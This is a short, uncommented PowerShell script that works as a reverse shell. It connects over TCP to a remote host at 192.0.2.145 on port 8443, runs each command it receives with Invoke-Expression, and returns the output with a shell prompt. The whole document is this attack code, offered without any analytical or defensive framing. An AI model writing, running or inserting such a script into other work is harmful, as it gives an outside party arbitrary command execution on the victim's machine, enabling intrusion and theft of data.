$c = New-Object System.Net.Sockets.TCPClient("192.0.2.145", 8443)
$s = $c.GetStream(); [byte[]]$b = 0..65535 | % {0}
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
  $r = (iex $d 2>&1 | Out-String) + "PS " + (pwd).Path + "> "
  $o = ([text.encoding]::ASCII).GetBytes($r); $s.Write($o, 0, $o.Length); $s.Flush()
}
